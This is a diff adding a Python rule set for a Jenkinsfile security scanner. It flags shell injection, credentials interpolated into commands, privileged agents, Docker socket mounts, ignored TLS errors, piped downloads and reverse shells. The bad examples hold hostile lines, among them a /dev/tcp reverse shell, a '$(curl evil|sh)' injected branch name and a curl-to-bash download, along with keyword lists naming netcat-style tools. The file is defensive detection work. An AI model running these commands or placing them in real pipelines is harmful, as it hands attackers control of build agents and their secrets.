@@ -1,0 +1,138 @@
+"""Jenkinsfiles."""
+
+from __future__ import annotations
+
+from ...finding import Example, Rule
+from .. import jenkins
+from ..match import Custom
+
+_KIND = ("jenkinsfile",)
+_INTERPOLATION = "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation"
+
+
+def step(line: str, more: str = "") -> Example:
+    """A declarative pipeline with one step."""
+    return Example(f"pipeline {{\n  agent any\n{more}  stages {{\n    stage('a') {{\n      steps {{\n        {line}\n      }}\n    }}\n  }}\n}}\n")
+
+
+RULES: tuple[Rule, ...] = (
+    Rule(
+        id="jenkins-text-in-script",
+        family="config",
+        title="text that somebody outside may write is pasted into a shell step",
+        severity="high",
+        tier="warn",
+        cwe=94,
+        why="In double quotes Groovy fills the text in before the shell reads the script; a branch or a pull request named $(curl evil|sh) runs as code.",
+        fix="Use single quotes, so that the shell reads the variable itself: sh 'echo \"$CHANGE_TITLE\"'.",
+        match=Custom(_KIND, jenkins.stranger_text, ("sh", "bat", "powershell")),
+        equivalents=("poutine:injection",),
+        references=(_INTERPOLATION,),
+        bad=(step('sh "echo «${env.CHANGE_TITLE}»"'), step('sh(script: """\n          git checkout «$BRANCH_NAME»\n        """, returnStdout: true)')),
+        good=(step("sh 'echo \"$CHANGE_TITLE\"'"), step('sh "echo ${env.BUILD_NUMBER}" // ${env.CHANGE_TITLE}'), step('echo "${env.CHANGE_TITLE}"')),
+    ),
+    Rule(
+        id="jenkins-parameter-in-script",
+        family="config",
+        title="a parameter of free text is pasted into a shell step",
+        severity="medium",
+        tier="warn",
+        cwe=94,
+        confidence="medium",
+        why="Groovy fills the parameter in before the shell reads the script; whoever may start the build decides what runs.",
+        fix="Use single quotes, so that the shell reads the parameter as a variable: sh 'deploy \"$TARGET\"'; or use a choice parameter.",
+        match=Custom(_KIND, jenkins.parameter_text, ("params",)),
+        equivalents=("poutine:injection",),
+        references=(_INTERPOLATION,),
+        bad=(step('sh "deploy «${params.TARGET}»"', "  parameters { string(name: 'TARGET', defaultValue: '') }\n"),),
+        good=(
+            step('sh "deploy ${params.TARGET}"', "  parameters { choice(name: 'TARGET', choices: ['a', 'b']) }\n"),
+            step("sh 'deploy \"$TARGET\"' + params.X", "  parameters { string(name: 'TARGET', defaultValue: '') }\n"),
+        ),
+    ),
+    Rule(
+        id="jenkins-secret-in-script",
+        family="config",
+        title="Groovy writes a credential into a command line",
+        severity="medium",
+        tier="warn",
+        cwe=522,
+        why="The filled-in command is in process lists and in messages of failing steps, and a credential with a quote or a dollar sign becomes code.",
+        fix="Use single quotes, so that the shell reads the credential from its environment: sh 'curl -u \"$USER:$PASS\" …'.",
+        match=Custom(_KIND, jenkins.secret_text, ("redentials",)),
+        references=(_INTERPOLATION,),
+        bad=(step('withCredentials([string(credentialsId: \'x\', variable: \'KEY\')]) { sh "deploy --key «${KEY}»" }'), step('sh "deploy «$KEY_PSW»"', "  environment { KEY = credentials('x') }\n")),
+        good=(step("withCredentials([string(credentialsId: 'x', variable: 'KEY')]) { sh 'deploy --key \"$KEY\"' }"), step('sh "deploy ${STAGE}"', "  environment { KEY = credentials('x') }\n")),
+    ),
+    Rule(
+        id="jenkins-privileged-agent",
+        family="config",
+        title="the build's container owns its host",
+        severity="high",
+        tier="block",
+        cwe=250,
+        why="A privileged container, or one in the host's process namespace, can do what root on the agent can; any build step or dependency is enough.",
+        fix="Take the option out and add only the capability that is needed; build images with rootless tools.",
+        match=Custom(_KIND, jenkins.privileged_agent, ("args", "inside", "un")),
+        references=("https://www.jenkins.io/doc/book/pipeline/docker/",),
+        bad=(Example("pipeline {\n  agent {\n    docker {\n      image 'node:22'\n      args '-u 0 «--privileged»'\n    }\n  }\n}\n"), Example("node {\n  docker.image('a').inside('«--privileged»') {\n    sh 'make'\n  }\n}\n")),
+        good=(Example("pipeline {\n  agent {\n    docker {\n      image 'node:22'\n      args \"-u 1000 ${ARGS}\" // --privileged\n    }\n  }\n}\n"),),
+    ),
+    Rule(
+        id="jenkins-docker-socket",
+        family="config",
+        title="the build's container can drive the agent's Docker daemon",
+        severity="high",
+        tier="warn",
+        cwe=250,
+        why="With the daemon's socket a build starts containers of its own, privileged ones too: that is root on the agent.",
+        fix="Build images with a rootless or remote builder instead of the agent's daemon.",
+        match=Custom(_KIND, jenkins.docker_socket, ("docker.sock",)),
+        references=("https://docs.docker.com/engine/security/#docker-daemon-attack-surface",),
+        bad=(Example("pipeline {\n  agent {\n    docker {\n      image 'docker'\n      args '-v «/var/run/docker.sock»:/var/run/docker.sock'\n    }\n  }\n}\n"),),
+        good=(Example("pipeline {\n  agent {\n    docker {\n      image 'docker'\n      args \"-v ${CACHE}:/cache\" // not /var/run/docker.sock\n    }\n  }\n}\n"),),
+    ),
+    Rule(
+        id="jenkins-tls-ignored",
+        family="config",
+        title="a request does not verify who it talks to",
+        severity="high",
+        tier="block",
+        cwe=295,
+        why="Anyone on the way can read what is sent, credentials too, and change the answer.",
+        fix="Take ignoreSslErrors out and add the private authority to the controller's trust store.",
+        match=Custom(_KIND, jenkins.tls_ignored, ("ignoreSslErrors",)),
+        references=("https://plugins.jenkins.io/http_request/",),
+        bad=(step("httpRequest url: 'https://acme.dev', ignoreSslErrors: «true»"),),
+        good=(step('httpRequest url: "https://${HOST}", ignoreSslErrors: false // ignoreSslErrors: true'),),
+    ),
+    Rule(
+        id="jenkins-unverified-script",
+        family="config",
+        title="a download is run unread",
+        severity="high",
+        tier="warn",
+        cwe=494,
+        why="Whoever controls the address, or the way to it, controls the build and its credentials.",
+        fix="Fetch a fixed version, check its SHA-256 and then run it.",
+        match=Custom(_KIND, jenkins.unread_script, ("curl", "wget")),
+        equivalents=("poutine:unverified_script_exec",),
+        references=("https://about.codecov.io/security-update/",),
+        bad=(step("sh '«curl -fsSL https://get.acme.dev | bash»'"),),
+        good=(step("sh 'curl -fsSL https://acme.dev/a.json | jq .v'"), step("echo 'curl https://acme.dev | sh ${X}'")),
+    ),
+    Rule(
+        id="jenkins-reverse-shell",
+        family="config",
+        title="this step opens a shell to somebody on the network",
+        severity="critical",
+        tier="block",
+        cwe=506,
+        why="There is no build that needs it; it is how a stolen account turns a pipeline into access to the agent.",
+        fix="Find out who added it, take it out, and rotate every credential that this pipeline can read.",
+        match=Custom(_KIND, jenkins.reverse_shell, ("/dev/tcp/", "nc ", "ncat ", "socat ")),
+        references=("https://attack.mitre.org/techniques/T1059/004/",),
+        bad=(step("sh '«bash -i >& /dev/tcp/203.0.113.9/4444 0>&1»'"),),
+        good=(step("sh 'nc -z $DB_HOST 5432'"),),
+    ),
+)
